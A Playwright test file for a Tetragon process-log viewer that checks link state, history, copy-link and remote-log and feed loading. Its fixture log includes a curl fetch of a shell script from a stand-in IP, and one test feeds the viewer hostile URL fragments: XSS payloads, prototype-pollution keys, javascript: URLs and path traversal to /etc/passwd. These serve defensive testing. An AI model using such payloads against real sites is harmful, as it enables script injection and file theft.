import { drawLog } from '../src/testing/draw-log'
import { readFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { corruptLinks } from '../src/testing/corrupt-links'
import { Listener } from './helpers/listener'
import { expect, test } from './helpers/test'
import { Viewer } from './helpers/viewer'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..9s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
`)

const other = drawLog(`
  pod default/deathstar container 2fb931d2 node n2
    10 /bin/other 0s..9s
`)

test('the fragment holds filter, range, selection and closed pods, and survives a reload', async ({ viewer, page }) => {
  await viewer.goto()
  await viewer.openSample()
  await viewer.twisty(viewer.row('default/tiefighter-6f87496b94-qk2lp')).click()
  await viewer.filter.fill('curl')
  await expect(viewer.status).toContainText('matching')
  await viewer.filter.press('Shift+Enter') // the last match: it has to be scrolled to
  await expect(viewer.selectedRow).toHaveCount(1)
  await viewer.waitForIdle()
  await viewer.focusTree()
  const { after } = await viewer.changeRange(() => page.keyboard.press('w'))
  for (const part of ['src=sample', 'q=curl', 'range=', 'sel=', 'closed=']) {
    await expect(page).toHaveURL(new RegExp(`#.*${part}`))
  }
  const name = await viewer.selectedRow.textContent()
  const matches = /matching [\d,]+ of [\d,]+/.exec((await viewer.status.textContent()) ?? '')![0]

  await page.reload()
  await viewer.waitForIdle()
  await expect(viewer.filter).toHaveValue('curl')
  await expect(viewer.status).toContainText(matches)
  expect(await viewer.visibleRange()).toEqual(after)
  await expect(viewer.selectedRow).toBeInViewport()
  expect(await viewer.selectedRow.textContent()).toBe(name)
  await viewer.filter.fill('')
  await expect(viewer.status).not.toContainText('matching')
  await expect(viewer.selectedRow).toBeInViewport()
  expect(await viewer.selectedRow.textContent()).toBe(name)
  await page.keyboard.press('Escape')
  await viewer.focusTree()
  await page.keyboard.press('Home')
  await expect(viewer.row('default/tiefighter-6f87496b94-qk2lp')).toHaveAttribute('aria-expanded', 'false')
})

test('Back and Forward go a step back and forth', async ({ viewer, page }) => {
  await viewer.goto()
  await viewer.openSample()
  await viewer.pods.getByRole('button', { name: /^xwing/ }).click()
  await viewer.selectRow('/usr/bin/whoami')
  await expect(page).toHaveURL(/sel=/)
  const first = page.url()
  await viewer.selectRow('/bin/cat /etc/os-release')
  await expect.poll(() => page.url()).not.toBe(first)
  await viewer.filter.fill('netserver')
  await expect(page).toHaveURL(/q=netserver/)

  await page.goBack()
  await expect(viewer.filter).toHaveValue('')
  await expect(viewer.row('/bin/cat /etc/os-release')).toHaveAttribute('aria-selected', 'true')
  await page.goBack()
  await expect(viewer.row('/usr/bin/whoami')).toHaveAttribute('aria-selected', 'true')
  await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/whoami')
  await page.goForward()
  await expect(viewer.row('/bin/cat /etc/os-release')).toHaveAttribute('aria-selected', 'true')
})

test('a gesture in time is one step for Back, a jump is another', async ({ viewer, page }) => {
  await viewer.goto()
  await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
  await viewer.selectRow('/usr/bin/curl')
  await expect(page).toHaveURL(/file=.*sel=/)
  const whole = await viewer.visibleRange()
  // several zooms and pans without a rest
  await viewer.changeRange(async () => {
    for (const key of 'wwdw') await page.keyboard.press(key)
  })
  await expect(page).toHaveURL(/range=/)
  const zoomed = await viewer.visibleRange()
  const before = page.url()
  await viewer.changeRange(() => page.keyboard.press('f')) // fits the selection
  const fitted = await viewer.visibleRange()
  await expect.poll(() => page.url()).not.toBe(before)
  await page.keyboard.press('0')
  await expect(page).not.toHaveURL(/range=/)

  for (const range of [fitted, zoomed, whole]) {
    await page.goBack()
    await expect.poll(() => viewer.visibleRange()).toEqual(range)
    await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
  }
  await page.goForward()
  await expect.poll(() => viewer.visibleRange()).toEqual(zoomed)
  await expect(viewer.notices).toHaveCount(0)
})

test('Copy link copies the address of what is on screen', async ({ viewer, page, context }) => {
  await viewer.goto()
  await viewer.openSample()
  await viewer.filter.fill('whoami')
  await expect(viewer.status).toContainText('matching')
  await viewer.filter.press('Enter')
  await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/whoami')
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await viewer.button('Copy link').click()
  const copied = page.getByRole('dialog', { name: 'The link' })
  await expect(copied).toContainText('that the log is the sample')
  await expect(copied).toContainText('the query, as typed: whoami')
  await expect(copied).toContainText('the selected process, by its exec_id')
  await expect(copied).toContainText('lines, arguments and all other content of the log')
  await expect(copied.getByRole('button', { name: 'Save as a file' })).toHaveCount(0)
  await page.keyboard.press('Escape')
  const link = await viewer.clipboard()
  await expect(page).toHaveURL(link)

  // a colleague opens it
  await page.goto('about:blank')
  await page.goto(link)
  await viewer.waitForIdle()
  await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/whoami')
  await expect(viewer.row('/usr/bin/whoami')).toHaveAttribute('aria-selected', 'true')
})

test('a link to a view of a local file asks for that file, and then shows the view', async ({
  viewer,
  page,
  folder,
}) => {
  const path = await folder.write('tetragon.log', log.text)
  await viewer.goto()
  await viewer.openFiles(path)
  await viewer.selectRow('/usr/bin/curl')
  await expect(page).toHaveURL(/file=.*sel=/)
  const link = page.url()
  await page.goto('about:blank')
  await page.goto(link)
  await expect(page.getByText(/^This link is a view of tetragon\.log \(.* kB\)\. Drop that file here/)).toBeVisible()
  await viewer.openFiles(path)
  await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
  await expect(viewer.details).toContainText('exit 22')
  await expect(viewer.notices).toHaveCount(0)
})

test('another file than that of the link is opened with a warning, until the right one comes', async ({
  viewer,
  page,
}) => {
  await viewer.goto()
  await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
  await viewer.selectRow('/usr/bin/curl')
  await expect(page).toHaveURL(/file=.*sel=/)
  const link = page.url()
  await page.goto('about:blank')
  await page.goto(link)
  await viewer.dropFiles({ name: 'tetragon.log', content: other.text })
  await viewer.waitForIdle()
  await expect(viewer.row('/bin/other')).toBeVisible()
  await expect(viewer.notices).toHaveText([
    /^tetragon\.log is not the file this link was made from, which is tetragon\.log/,
    /^The link selects a process that is not in this log/,
    /^This link is a view of tetragon\.log .* which is not open/,
  ])
  await viewer.dropFiles({ name: 'renamed.log', content: log.text })
  await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
  await expect(viewer.notices.filter({ hasText: 'which is not open' })).toHaveCount(0)
})

test('a link that is put into the open page is applied, by address, as text and as a file', async ({
  viewer,
  page,
}) => {
  await viewer.goto()
  await viewer.openSample()
  await page.evaluate(() => (location.hash = '#v=2&src=sample&q=whoami&layout=sideways'))
  await expect(viewer.filter).toHaveValue('whoami')
  await expect(viewer.notices).toHaveText([/^A part of this link could not be used: layout: “sideways” is no value/])
  await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur())
  await viewer.paste('#v=2&src=sample&q=curl')
  await expect(viewer.filter).toHaveValue('curl')
  await expect(viewer.notices).toHaveCount(0)
  await page.goBack()
  await expect(viewer.filter).toHaveValue('whoami')

  // a link that chat tools would cut
  const hidden = Array.from({ length: 90 }, (_, i) => `hide=${btoa(`node:${i}:00000000000`)}`).join('&')
  await page.evaluate((fragment) => (location.hash = fragment), `#v=2&src=sample&q=netserver&${hidden}`)
  await expect(viewer.filter).toHaveValue('netserver')
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await viewer.button('Copy link').click()
  const [download] = await Promise.all([page.waitForEvent('download'), viewer.button('Save as a file').click()])
  expect(download.suggestedFilename()).toBe('treeline-link.html')
  const content = await readFile(await download.path())
  await viewer.filter.fill('')
  await expect(page).not.toHaveURL(/netserver/) // what is typed is applied when it pauses
  await viewer.dropFiles({ name: 'view.html', content })
  await expect(viewer.filter).toHaveValue('netserver')
  await expect(page).toHaveURL(/q=netserver.*hide=/)
  await expect(viewer.notices).toHaveCount(0)
})

test('a link whose process is not in the log says so', async ({ viewer }) => {
  await viewer.goto('#v=1&src=sample&sel=bm90LWhlcmU6MTox')
  await viewer.waitForIdle()
  await expect(viewer.details).toContainText('The selected process is not in this log.')
  await expect(viewer.notices).toHaveText([/^The link selects a process that is not in this log/])
  await expect(viewer.row('default/xwing')).toBeVisible()
})

test('a hostile fragment does nothing bad', async ({ viewer, page }) => {
  const fragments = [
    '#%E0%A4%A&&&===',
    '#v=999&sel=x',
    '#v=1&q=<img src=x onerror=alert(1)>&sel="><script>alert(2)</script>&closed=<svg onload=alert(3)>&<b>=1',
    '#v=1&closed=__proto__&folded=constructor&sel=__proto__&q=toString&__proto__=1',
    '#v=1&feed=javascript:alert(1)&src=javascript:alert(2)',
    '#v=2&feed=nats%2Bwss://ann:hunter2@nats.example/T&feed=nats%2Bwss://nats.example/T?subject=%3E.$JS',
    '#v=2&src=file:///etc/passwd&src=//example.com/x&file=../../etc/passwd',
    `#v=1&q=${'a'.repeat(300_000)}&${'closed=x&'.repeat(10_000)}`,
  ]
  for (const [i, fragment] of fragments.entries()) {
    const isLoaded = i % 3 === 0 // a load takes long: the others are put into the open page, over the open log
    if (isLoaded) {
      await page.goto('about:blank')
      await viewer.goto(fragment)
      await expect(viewer.button('Open the sample')).toBeVisible()
    } else {
      await page.evaluate((hash) => (location.hash = hash), fragment)
    }
    await expect(page.getByRole('dialog')).toHaveCount(0)
    await expect(viewer.notices.filter({ hasText: 'of this link could not be used' })).toHaveCount(1)
    if (isLoaded) await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
    await expect(viewer.status).toContainText('2 processes')
    await viewer.filter.fill('')
    await expect(viewer.row('/usr/bin/curl')).toBeVisible()
    expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([])
  }
})

test('a link with a range that is none, or far from the log, leaves the page working', async ({ viewer, page }) => {
  const ranges = [
    'from=0001-01-01T00:00:00Z&to=9999-12-31T23:59:59Z',
    'from=1970-01-01T00:00:00Z&to=1970-01-01T00:00:01Z',
    'from=2024-05-14T12:55:00Z&to=2024-05-14T12:54:00Z',
    'from=2024-05-14T12:55:00Z&to=2024-05-14T12:55:00Z',
    'from=yesterday&to=NaN',
  ]
  for (const [i, range] of ranges.entries()) {
    if (i < 2) {
      await page.goto('about:blank')
      await viewer.goto(`#v=1&${range}`)
      await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
    } else {
      await page.evaluate((hash) => (location.hash = hash), `#v=1&${range}`) // over the open log
    }
    await expect(viewer.status).toContainText('2 processes')
    await viewer.waitForIdle()
    await viewer.focusTree()
    await page.keyboard.press('w')
    await page.keyboard.press('0')
    await expect(viewer.status).toContainText('2024-05-01 09:59:59')
    await expect(viewer.events.getByRole('option')).toHaveCount(4)
  }
})

test('300 corrupted links open one after the other, each with a notice', async ({ viewer, page }) => {
  const links = corruptLinks(300, 11)
  await viewer.goto()
  await expect(viewer.button('Open the sample')).toBeVisible()
  expect(await openedInSilence(page, links, 'told')).toEqual([])
  // with a log open each is drawn, too; these are real navigations, which take most of the time
  await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
  await viewer.waitForIdle()
  const navigated = links.filter((_, i) => i % 10 === 0)
  expect(await openedInSilence(page, navigated, 'navigated')).toEqual([])
  await page.evaluate(() => (location.hash = '#v=2&fold=0'))
  await expect(viewer.notices).toHaveCount(0)
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
})

/** Puts links into the open page one after the other; gives those that brought no notice. */
function openedInSilence(page: Page, links: readonly string[], how: 'navigated' | 'told'): Promise<string[]> {
  return page.evaluate(
    async ({ all, isNavigated }) => {
      const silent: string[] = []
      for (const link of all) {
        if (isNavigated) {
          const arrived = new Promise((resolve) => addEventListener('hashchange', resolve, { once: true }))
          location.hash = link
          await arrived
        } else {
          const url = new URL(location.href)
          url.hash = link
          history.replaceState(null, '', url)
          dispatchEvent(new HashChangeEvent('hashchange'))
        }
        await new Promise((resolve) => setTimeout(resolve))
        const notices = document.querySelector('.notices')?.textContent ?? ''
        if (!notices.includes('of this link could not be used')) silent.push(link)
      }
      return silent
    },
    { all: links, isNavigated: how === 'navigated' },
  )
}

test('a link made on one machine restores the same rows, range, selection and folds on another', async ({
  viewer,
  page,
  browser,
  baseURL,
}) => {
  const content = await readFile('public/samples/incident.ndjson')
  await viewer.goto()
  await viewer.dropFiles({ name: 'incident.ndjson', content })
  await viewer.waitForIdle()
  // something of everything: a fold, a hidden row, a closed pod, an order, a selection, ranges, a pane, a tab, a scroll
  await viewer.twisty(viewer.rows.filter({ hasText: '×' }).first()).click()
  await viewer.waitForIdle() // rows below it have moved
  await viewer.selectRow('/usr/bin/whoami')
  await viewer.twisty(viewer.row('default/xwing')).click()
  await page.getByRole('tab', { name: 'Raw JSON' }).click()
  await page.getByRole('button', { name: 'Pods pane' }).click()
  await viewer.focusTree()
  await viewer.changeRange(() => page.keyboard.press('w'))
  await page.mouse.move(700, 400)
  await page.mouse.wheel(0, 240)
  await viewer.button('Copy link').click()
  await expect(page.getByRole('dialog', { name: 'The link' })).toBeVisible()
  await page.keyboard.press('Escape') // closes the box and leaves the selection
  await expect(page.getByRole('dialog', { name: 'The link' })).toHaveCount(0)
  const link = await viewer.clipboard()
  for (const part of ['file=', 'range=', 'sel=', 'row=', 'closed=', 'open=', 'panes=', 'tab=raw'])
    expect(link).toContain(part)

  const context = await browser.newContext({
    baseURL: baseURL ?? '',
    locale: 'de-DE',
    timezoneId: 'UTC',
    viewport: { width: 1440, height: 900 },
  })
  const colleague = new Viewer(await context.newPage())
  await colleague.page.goto(link)
  await colleague.dropFiles({ name: 'copy-of-incident.ndjson', content })
  await colleague.waitForIdle()
  await expect(colleague.notices).toHaveCount(0)
  expect(await seenRows(colleague)).toEqual(await seenRows(viewer))
  expect((await seenRows(viewer)).length).toBeGreaterThan(15)
  expect(await colleague.visibleRange()).toEqual(await viewer.visibleRange())
  const picture = async ({ page: own }: Viewer): Promise<string> => {
    await own.evaluate(() => (document.activeElement as HTMLElement | null)?.blur())
    await own.mouse.move(0, 0)
    const main = own.getByRole('main', { name: 'Processes over time' })
    return (await main.screenshot({ animations: 'disabled' })).toString('base64')
  }
  await expect(page.getByText('Copied the link')).toHaveCount(0) // it stands before the panes for a while
  const made = await picture(viewer)
  await expect.poll(async () => differentPixels(page, made, await picture(colleague))).toBeLessThan(50)
  await context.close()
})

/** Pixels in which two PNGs differ; all of them where their sizes do. */
function differentPixels(page: Page, a: string, b: string): Promise<number> {
  return page.evaluate(
    async (pngs) => {
      const [one, two] = await Promise.all(
        pngs.map(async (png) => {
          const bitmap = await createImageBitmap(await (await fetch(`data:image/png;base64,${png}`)).blob())
          const context = new OffscreenCanvas(bitmap.width, bitmap.height).getContext('2d')!
          context.drawImage(bitmap, 0, 0)
          return context.getImageData(0, 0, bitmap.width, bitmap.height)
        }),
      )
      if (one.width !== two.width || one.height !== two.height) return one.width * one.height
      let count = 0
      for (let i = 0; i < one.data.length; i += 4) {
        const isOther = [0, 1, 2].some((channel) => Math.abs(one.data[i + channel] - two.data[i + channel]) > 16)
        if (isOther) count++
      }
      return count
    },
    [a, b],
  )
}

/** Labels of the rows that are all in view: beyond them each page holds as many as it happens to. */
function seenRows({ tree }: Viewer): Promise<string[]> {
  return tree.evaluate((grid) => {
    const box = grid.getBoundingClientRect()
    return [...grid.querySelectorAll('[role=row]')].flatMap((row) => {
      const { top, bottom } = row.getBoundingClientRect()
      return top >= box.top && bottom <= box.bottom ? `${row.ariaLevel} ${row.ariaExpanded} ${row.textContent}` : []
    })
  })
}

test.describe('a link with the address of a log', () => {
  let server: Server
  let host = ''
  let requests = 0
  let answer: 'log' | 'no-cors' | 'redirect' = 'log'
  test.beforeEach(async () => {
    requests = 0
    server = createServer((_, response) => {
      requests++
      const cors = answer === 'no-cors' ? {} : { 'access-control-allow-origin': '*' }
      if (answer === 'redirect') response.writeHead(302, { ...cors, location: '/elsewhere' }).end()
      else response.writeHead(200, cors).end(log.text)
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    host = `127.0.0.1:${(server.address() as AddressInfo).port}`
  })
  test.afterEach(() => server.close())

  test('asks, names the host, loads it, and is carried on without what may be a secret', async ({
    browser,
    baseURL,
  }) => {
    // a page that nobody watches for requests to other hosts
    const context = await browser.newContext({
      baseURL: baseURL ?? '',
      permissions: ['clipboard-read', 'clipboard-write'],
    })
    const viewer = new Viewer(await context.newPage())
    const { page } = viewer
    const dialog = page.getByRole('dialog', { name: 'Load what this link names?' })
    answer = 'log'
    await viewer.goto(`#src=${encodeURIComponent(`http://${host}/logs/tetragon.log?sig=s3cret`)}&q=curl`)
    await expect(dialog.getByText(host, { exact: true })).toBeVisible()
    await dialog.getByRole('button', { name: 'Do not load' }).click()
    await expect(dialog).toHaveCount(0)
    expect(requests).toBe(0)

    await page.reload()
    await dialog.getByRole('button', { name: 'Load', exact: true }).click()
    await viewer.waitForIdle()
    await expect(viewer.row('/usr/bin/curl')).toBeVisible()
    expect(requests).toBe(1)
    await expect(page).toHaveURL(new RegExp(`src=http://${host}/logs/tetragon.log&`))
    await viewer.button('Copy link').click()
    await expect(page.getByRole('dialog', { name: 'The link' })).toContainText('as it may be a secret')
    expect(await viewer.clipboard()).not.toContain('s3cret')

    for (const [next, problem] of [
      ['no-cors', /tetragon\.log cannot be read: .* does not let this page read it \(CORS\)/],
      ['redirect', /tetragon\.log cannot be read: .* sends on to another address, which is not followed/],
    ] as const) {
      answer = next
      await page.goto('about:blank')
      await viewer.goto(`#src=http://${host}/tetragon.log`)
      await dialog.getByRole('button', { name: 'Load', exact: true }).click()
      await expect(viewer.notices).toHaveText([problem])
    }
    await context.close()
  })

  test('of the same host loads beside what is open, or instead of it', async ({ viewer, page }) => {
    await viewer.goto()
    await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
    await viewer.waitForIdle()
    await page.evaluate(() => (location.hash = '#src=/samples/incident.ndjson&q=whoami'))
    const dialog = page.getByRole('dialog', { name: 'Load what this link names?' })
    await expect(dialog.getByRole('checkbox', { name: 'close tetragon.log first' })).toBeChecked()
    await dialog.getByRole('button', { name: 'Load', exact: true }).click()
    await viewer.waitForIdle()
    await expect(page.getByRole('banner')).toContainText('incident.ndjson')
    await expect(viewer.filter).toHaveValue('whoami')
    await expect(page).toHaveURL(/src=\/samples\/incident\.ndjson&q=whoami/)
    expect(requests).toBe(0)
  })
})

test.describe('a link with a feed', () => {
  let server: Listener
  test.beforeEach(async () => {
    server = await Listener.start(log.lines)
  })
  test.afterEach(() => server.close())

  test('asks before it connects, names the host, and connects to nothing before', async ({ viewer, page }) => {
    await viewer.goto(`#v=1&feed=ws://${server.host}/events`)
    const dialog = page.getByRole('dialog', { name: 'Connect to a live feed?' })
    await expect(dialog.getByText(server.host, { exact: true })).toBeVisible()
    await dialog.getByRole('button', { name: 'Do not connect' }).click()
    await expect(dialog).toHaveCount(0)
    await expect(viewer.button('Open the sample')).toBeVisible()

    await page.reload()
    await dialog.getByRole('button', { name: 'Connect', exact: true }).click()
    await expect(viewer.row('/usr/bin/curl')).toBeVisible()
    expect(server.connections).toBe(1)
  })

  test('asks for the host it really goes to', async ({ viewer, page }) => {
    await viewer.goto(`#v=1&feed=${encodeURIComponent(`ws://internal.example:80@${server.host}/`)}`)
    const dialog = page.getByRole('dialog', { name: 'Connect to a live feed?' })
    await expect(dialog.getByText(server.host, { exact: true })).toBeVisible()
    await page.keyboard.press('Escape')
    await expect(dialog).toHaveCount(0)
    expect(server.connections).toBe(0)
  })

  test('a link never carries the password of a feed', async ({ viewer, page, context }) => {
    await viewer.goto()
    await viewer.button('Connect').click()
    await page.getByRole('textbox', { name: /Address of a WebSocket/ }).fill(`ws://ann:hunter2@${server.host}/`)
    await page.keyboard.press('Enter')
    await expect(viewer.row('/usr/bin/curl')).toBeVisible()
    await expect(page).toHaveURL(/feed=/)
    expect(page.url()).not.toMatch(/hunter2|ann/)
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    await viewer.button('Copy link').click()
    await expect(page.getByRole('dialog', { name: 'The link' })).toContainText('the address of the feed')
    expect(await viewer.clipboard()).toContain(server.host)
    expect(await viewer.clipboard()).not.toMatch(/hunter2|ann/)
  })

  test('the password of a feed is not on screen', async ({ viewer, page }) => {
    await viewer.goto()
    await viewer.button('Connect').click()
    await page.getByRole('textbox', { name: /Address of a WebSocket/ }).fill(`ws://ann:hunter2@${server.host}/`)
    await page.keyboard.press('Enter')
    await expect(viewer.row('/usr/bin/curl')).toBeVisible()
    await expect(page.getByRole('banner')).toContainText(server.host)
    await expect(page.locator('body')).not.toContainText('hunter2', { timeout: 1000 })
  })
})
